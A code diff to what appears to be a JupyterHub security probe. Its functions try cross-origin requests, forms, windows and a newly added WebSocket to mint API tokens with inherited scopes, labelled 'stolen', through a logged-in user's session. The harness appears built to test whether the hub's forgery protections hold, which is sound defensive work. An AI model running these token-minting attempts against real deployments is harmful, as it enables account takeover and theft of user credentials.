@@ -26,8 +26,8 @@ const [hub, server, name, port] = JSON.parse(decodeURIComponent(location.hash.sl
 const tokens = `${hub}/hub/api/users/${name}/tokens`;
 const rights = JSON.stringify({scopes: ["inherit"], note: "stolen"});
 const ask = (way, address, method, token, body, more) =>
-    way(address, {method, body, headers: token ? {"X-XSRFToken": token} : {}, ...more,
-                  credentials: "include"})
+    way(address, {method, body, credentials: "include", ...more,
+                  headers: token ? {"X-XSRFToken": token, "Content-Type": "application/json"} : {}})
         .then(async answer => [answer.status, (await answer.text()).slice(0, 200)]);
 async function inside(address) {
     const other = open(address);
@@ -48,6 +48,11 @@ const tries = {
                        {mode: "no-cors"}),
     "program: form": () => ask(fetch, `${server}/proxy/${port}/forged`, "POST", null, "x",
                                {mode: "no-cors"}),
+    "program: socket": () => new Promise((opened, refused) => {
+        const socket = new WebSocket(`${server}/proxy/${port}/forged`);
+        socket.onopen = () => opened([101, "open"]);
+        socket.onerror = () => refused("no connection");
+    }),
     blindly: () => ask(fetch, tokens, "POST", null, rights, {mode: "no-cors"}),
     "window: mint": async () => {
         const other = await inside(`${hub}/hub/token`);
